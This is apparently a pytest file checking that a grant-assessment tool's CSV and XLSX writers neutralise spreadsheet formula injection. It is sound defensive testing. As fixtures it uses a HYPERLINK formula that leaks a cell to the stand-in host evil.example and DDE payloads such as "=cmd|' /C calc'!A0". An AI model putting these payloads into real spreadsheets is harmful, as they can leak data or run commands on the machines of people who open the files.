"""Formula neutralisation: one function (isgrid.io.write.neutralise_cell), every writer.

In a CSV file a person opens in a spreadsheet, a cell that a spreadsheet would run as a
formula (``=``, ``+``, ``-``, ``@``, tab, CR, LF, and their full-width forms) is written
with a leading ``'``; plain numbers (a negative score ``-1,33``) are left alone.  A
workbook's text cells are typed strings, never formulas, written as typed (no ``'``,
which Excel would show); the open-data files (SCDL) are the applicant's words as written.
The last test lists every CSV or XLSX writer of ``src/`` by grep: a new writer must be
added here.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from isgrid.io.write import FORMULA_PREFIXES, neutralise_cell, neutralise_row
from testpaths import HOSTILE, ROOT

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


@pytest.mark.parametrize(("raw", "written"), [
    ("=1+2", "'=1+2"), ("+33 6 12", "'+33 6 12"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+2", "'＝1+2"),
    ("-", "'-"), ("+", "'+"), ("-1,33;=x", "'-1,33;=x"),
    # plain numbers stay numbers
    ("-1,33", "-1,33"), ("-12.5", "-12.5"), ("+3", "+3"), ("-1e-05", "-1e-05"),
    ("-1\u202f234,5", "-1\u202f234,5"),
    # everything else is left as it is
    ("Appel 2024", "Appel 2024"), ("", ""), (" =1", " =1"), (-1.5, -1.5), (3, 3), (None, None),
])
def test_neutralise_cell(raw: Any, written: Any) -> None:
    assert neutralise_cell(raw) == written
    assert neutralise_row([raw, "x"]) == [written, "x"]


def dangerous(cell: Any) -> bool:
    """A written cell a spreadsheet would run: starts with a prefix and is not a plain number."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_PREFIXES):
        return False
    return neutralise_cell(cell) != cell


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    sep = ";" if text.split("\n", 1)[0].count(";") else ","
    return [c for row in csv.reader(io.StringIO(text), delimiter=sep) for c in row]


@pytest.fixture
def evil_call(tmp_path: Path) -> Path:
    """The hostile base call with formula text wherever a user types text."""
    call = tmp_path / "call"
    shutil.copytree(HOSTILE / "base", call)
    path = call / "call.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "title: Appel de base du corpus hostile", "title: '+Appel @ la une'"), encoding="utf-8")
    d01 = call / "dossiers" / "D01.yaml"
    d01.write_text(d01.read_text(encoding="utf-8").replace(
        "title: Repair café", f"title: '{EVIL.replace(chr(39), chr(39) * 2)}'"),
        encoding="utf-8")
    j1 = call / "ratings" / "j1.csv"
    lines = j1.read_text(encoding="utf-8").splitlines()
    head, first = lines[0], lines[1].split(",")
    first[4:] = ["=cmd|' /C calc'!A0"]
    j1.write_text("\n".join([head, ",".join(f'"{c}"' if "'" in c else c for c in first),
                             *lines[2:]]) + "\n", encoding="utf-8")
    return call


def test_score_csv(evil_call: Path) -> None:
    from isgrid.call.load import load_call
    from isgrid.documents.score_outputs import score_csv
    from isgrid.engine import score

    for lang in ("fr", "en"):
        cells = csv_cells(score_csv(score(load_call(evil_call)), lang))
        assert "'" + EVIL in cells
        assert not [c for c in cells if dangerous(c)]


@pytest.mark.parametrize(("fmt", "layout"), [("csv", "rows"), ("xlsx", "rows"),
                                             ("xlsx", "per-dossier")])
def test_juror_sheets(evil_call: Path, tmp_path: Path, fmt: str, layout: str) -> None:
    from isgrid.call.load import load_call
    from isgrid.jury.sheets import write_sheets

    out = tmp_path / "out"
    write_sheets(load_call(evil_call), out, fmt=fmt, layout=layout)
    cells: list[Any] = []
    for path in sorted(out.iterdir()):
        if fmt == "csv":
            cells += csv_cells(path.read_bytes())
            continue
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (ws.title, c.coordinate)  # never a formula
                    if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES):
                        assert c.data_type == "s", (ws.title, c.coordinate)  # a typed string
                    cells.append(c.value)
    if fmt == "csv":
        assert "'" + EVIL in cells
        assert not [c for c in cells if dangerous(c)]
    else:  # a typed string cell is never run: the title as written, no « ' » shown
        assert EVIL in cells and "'" + EVIL not in cells
        assert "+Appel @ la une" in cells


def test_a_call_whose_title_starts_with_plus_round_trips(evil_call: Path, tmp_path: Path) -> None:
    """The issue's case: a title '+Appel…' made every workbook unimportable."""
    from isgrid.call.load import load_call
    from isgrid.jury.importer import import_sheets
    from isgrid.jury.sheets import write_sheets

    out = tmp_path / "out"
    write_sheets(load_call(evil_call), out, only=["j1"], blank=True)  # j1's ratings go
    (evil_call / "ratings" / "j1.csv").unlink()
    wb = openpyxl.load_workbook(out / "j1.xlsx")
    ws = wb["Notation"]
    heads = [c.value for c in ws[1]]
    col = next(i for i, h in enumerate(heads) if str(h).startswith("B1")) + 1
    ws.cell(2, col).value = 3
    ws.cell(3, col).value = "=SOMME(A1:A9)"  # a juror's comment row: text that looks like a formula
    ws.cell(3, col).data_type = "s"
    wb.save(out / "j1.xlsx")
    report = import_sheets(load_call(evil_call), [out / "j1.xlsx"])
    written = (evil_call / "ratings" / "j1.csv").read_bytes()
    assert report.counts["j1"] == 1
    cells = csv_cells(written)
    assert "'=SOMME(A1:A9)" in cells and not [c for c in cells if dangerous(c)]


def test_ratings_and_opinions_written_by_the_import(evil_call: Path) -> None:
    from isgrid.call.load import load_call
    from isgrid.jury.importer import JurorSheet, opinions_csv, ratings_csv

    call = load_call(evil_call)
    sheet = JurorSheet("x.xlsx", "j1", ratings={("D01", "B1"): ("3", "@SUM(1)")},
                       opinions={"D01": ("favorable", "1000", "-2+3")})
    cells = csv_cells(ratings_csv(call, sheet)) + csv_cells(opinions_csv(call, sheet))
    assert "'@SUM(1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if dangerous(c)]


def test_assignments_csv() -> None:
    from isgrid.jury.assign import Assignment, assignments_csv

    cells = csv_cells(assignments_csv(Assignment([("=D1", "@j1"), ("D2", "j1")], {}, 1)))
    assert cells == ["dossier", "assessor", "'=D1", "'@j1", "D2", "j1"]


def test_scdl_export_writes_every_column_as_written(monkeypatch: pytest.MonkeyPatch) -> None:
    """The SCDL file is open data read by programs against its schema, not a sheet: the
    beneficiary « @Home Solidaire » and the object « + de lien social » as the applicant
    wrote them (the hostile review: « '@Home Solidaire » was published).  Every column."""
    from isgrid.documents import opendata

    cols = opendata.columns(opendata.SCDL_VERSION)
    row = {c: f"=evil({c})" for c in cols}
    row["nomBeneficiaire"], row["objet"] = "@Home Solidaire", "+ de lien social"
    monkeypatch.setattr(opendata, "scdl_rows",
                        lambda call, result, version=None, warnings=None: [row])
    cells = csv_cells(opendata.scdl_csv(None, None))  # type: ignore[arg-type]
    assert cells[len(cols):] == [row[c] for c in cols]
    assert "@Home Solidaire" in cells and "+ de lien social" in cells


def test_workspace_deports_csv(tmp_path: Path) -> None:
    """conflicts/<juror>.csv of the jurors' workspace: the déport's reason is juror text."""
    from types import SimpleNamespace

    from isgrid.workspace.deports import conflicts_csv

    call = SimpleNamespace(dossiers=[SimpleNamespace(id="D1")])
    deport = SimpleNamespace(dossier="D1", reason="=HYPERLINK(\"x\")")
    cells = csv_cells(conflicts_csv(call, "j1", [deport]))  # type: ignore[arg-type,list-item]
    assert cells[3:] == ["j1", "D1", "'=HYPERLINK(\"x\")"]


def test_workspace_mail_merge() -> None:
    """The invitations' mail merge of the jurors' workspace: a juror's id and name come
    from call.yaml (the link and the date are the workspace's own)."""
    from isgrid.call.model import Assessor
    from isgrid.workspace.files import mail_merge_csv

    data = mail_merge_csv([(Assessor(id="j1", name="@Anne"), "s3cret", 0.0)],
                          "https://jury.example.org/", lang="fr")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["j1", "'@Anne", "https://jury.example.org/signin/s3cret",
                       "1er janvier 1970 à 1\u00a0h\u00a000"]  # Paris: UTC+1


def test_intake_opinions_csv() -> None:
    """The Avis sheet of a Démarche Numérique export: an expert's free text."""
    from isgrid.intake.mapping import AvisOpinion
    from isgrid.intake.refresh import _opinions_bytes

    cells = csv_cells(_opinions_bytes([AvisOpinion("D1", "expert-1", "favorable", "@SUM(A1)")]))
    assert cells[5:] == ["D1", "expert-1", "favorable", "", "'@SUM(A1)"]


def test_purge_rewritten_csv(tmp_path: Path) -> None:
    """call purge rewrites ratings and opinions CSV: the cells it keeps stay neutralised."""
    from isgrid.call.purge_comments import _comments, _Emptied

    path = tmp_path / "r.csv"
    path.write_text("dossier,assessor,criterion,value,comment\n=D1,j1,C1,3,avis\n",
                    encoding="utf-8")
    assert _comments(path) == 1
    data = b"".join(_Emptied(path))
    assert csv_cells(data)[5:] == ["'=D1", "j1", "C1", "3", ""]


def test_purge_conflicts_csv(tmp_path: Path) -> None:
    """call purge rewrites the recusal reasons of conflicts/*.csv: juror text, kept
    neutralised (a reason that starts with = stays text)."""
    import datetime as dt

    from isgrid.call.purge import PurgePlan
    from isgrid.call.purge_extra import purge_conflicts
    from isgrid.call.purge_names import _Names, _Values

    (tmp_path / "conflicts").mkdir()
    (tmp_path / "conflicts" / "j1.csv").write_text(
        "assessor,dossier,reason\nj1,D1,\"=HYPERLINK(\"\"x\"\") Sophie Kuntz\"\n", "utf-8")
    plan = PurgePlan(None, dt.date(2025, 7, 1))
    [(_, data)] = purge_conflicts(tmp_path, _Names({"Sophie Kuntz": "Juré 3"}), _Values([]),
                                  plan)
    assert csv_cells(data)[3:] == ["j1", "D1", "'=HYPERLINK(\"x\") Juré 3"]


def test_letters_mail_merge() -> None:
    """The letters' mail-merge CSV: a title or a motivation starting with = stays text."""
    from isgrid.documents import dossier_models as dm
    from isgrid.documents import models as m
    from isgrid.documents.letters import letters_csv

    letter = dm.Letter(id="D1", title="=HYPERLINK(\"http://x\")", outcome="@SUM(1)",
                      reasons=["+cmd|' /C calc'!A0"], amount=None, sections=[],
                      strengths=[], improvements=[], synthesis=[], motivation="-2+3")
    ctx = m.Context.model_construct(meta=m.Meta.model_construct(lang="fr", decided=True),
                                    letter=letter)
    text = letters_csv([ctx]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][:3] == ["D1", "'=HYPERLINK(\"http://x\")", "'@SUM(1)"]
    assert rows[1][5] == "'+cmd|' /C calc'!A0" and rows[1][6] == "'-2+3"


def test_compare_coverage_csv() -> None:
    """compare's coverage table as CSV: a grid's name is the one text cell; a name a
    spreadsheet would run (a grid file named « =cmd… ») stays text; the shares are numbers
    written by isgrid (« 20,0 » in French, « 0 » where a grid does not reach a dimension),
    the markers « (s) » « (g) » in a column of their own (review 19, finding 7)."""
    from isgrid.analysis.comparison.build import compare
    from isgrid.analysis.comparison.csvtable import coverage_csv
    from isgrid.grid.load import load_grid

    report = compare([load_grid("avise-mouves-2011"), load_grid("csess-2017")])
    rows = [r.split(";") for r in coverage_csv(report, "fr").decode("utf-8-sig").splitlines()]
    assert rows[0][:7] == ["grille", "base", "critères sourcés", "critères reconstitués",
                           "critères inférés", "provenance", "D1 (%)"]
    report["coverage"][0]["grid"] = "=HYPERLINK(\"http://x\")"
    assert csv_cells(coverage_csv(report, "fr"))[17] == "'=HYPERLINK(\"http://x\")"
    # Avise: 4 of its 20 criteria have D1 as their main dimension: 20,0 %; none D10: 0;
    # its criteria 0 sourced, 19 reconstructed, 1 inferred: flagged
    assert rows[1][2:7] == ["0", "19", "1", "0 critère sourcé sur 20", "20,0"]
    assert rows[1][15] == "0" and rows[1][16] == ""
    # the CSESS reaches D4, D5, D8 only as secondary dimensions (CS-2.4, 2.1, 3.2): 0 in the
    # numeric cells, said in the markers' column; 2 of its 8 criteria sourced
    assert rows[2][2:6] == ["2", "6", "0", "2 critères sourcés sur 8"]
    assert rows[2][6 + 3] == "0" and rows[2][6 + 7] == "0"
    assert rows[2][16] == "D4 (s), D5 (s), D8 (s)"
    assert all(c not in ("(s)", "(g)", "") for r in rows[1:] for c in r[6:16])


def test_grid_criteria_csv(tmp_path: Path) -> None:
    """``grids show --format csv``: a label, a section or a source a spreadsheet would run
    stays text; the weights and floors are numbers isgrid writes (review 19, finding 7)."""
    from isgrid.grid.csvexport import grid_csv
    from isgrid.grid.load import load_grid

    path = tmp_path / "g.yaml"
    path.write_text(
        'id: evil\nversion: "1"\ntitle: T\nmode: profile\ncounts_as: {present: 1}\n'
        "sources: [{id: S1, title: x}]\n"
        "scales: {yn: {label: yn, levels: [{value: 0, label: non}, {value: 1, label: oui}]}}\n"
        "sections:\n  - id: s\n    label: '@SUM(1)'\n    criteria:\n"
        "      - {id: C1, label: '=HYPERLINK(\"http://x\")', scale: yn, dimension: D1, "
        "provenance: {status: sourced, source: S1}}\n", encoding="utf-8")
    cells = csv_cells(grid_csv(load_grid(str(path)), "fr"))
    assert cells[9:] == ["C1", "'=HYPERLINK(\"http://x\")", "'@SUM(1)", "D1", "", "", "non",
                         "sourcé", "S1"]


#: Every module of src/ that writes CSV or XLSX, and the test above that covers it.
WRITERS = {
    "src/isgrid/documents/score_outputs.py": test_score_csv,
    "src/isgrid/documents/opendata.py": test_scdl_export_writes_every_column_as_written,
    "src/isgrid/jury/importer.py": test_ratings_and_opinions_written_by_the_import,
    "src/isgrid/jury/assign.py": test_assignments_csv,
    "src/isgrid/jury/sheets.py": test_juror_sheets,
    "src/isgrid/jury/workbook.py": test_juror_sheets,
    "src/isgrid/workspace/deports.py": test_workspace_deports_csv,
    "src/isgrid/workspace/files.py": test_workspace_mail_merge,
    "src/isgrid/intake/refresh.py": test_intake_opinions_csv,
    "src/isgrid/call/purge_comments.py": test_purge_rewritten_csv,
    "src/isgrid/call/purge_extra.py": test_purge_conflicts_csv,
    "src/isgrid/documents/letters_merge.py": test_letters_mail_merge,
    "src/isgrid/analysis/comparison/csvtable.py": test_compare_coverage_csv,
    "src/isgrid/grid/csvexport.py": test_grid_criteria_csv,
}


def test_every_writer_is_covered() -> None:
    found = set()
    for path in (ROOT / "src").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv[._](writer|DictWriter)\(|Workbook\(\)|spreadsheet_csv\(", text):
            found.add(path.relative_to(ROOT).as_posix())
    # io.cells.csv_writer and spreadsheet_csv: the writers the modules above call
    found.discard("src/isgrid/io/cells.py")
    # the purge's scan: a scratch Workbook() to run openpyxl's sheet reader on a sheet's
    # frame, never saved (call.purge_book_scan.frame_check)
    found.discard("src/isgrid/call/purge_book_scan.py")
    assert found == set(WRITERS), "a CSV/XLSX writer without a neutralisation test"

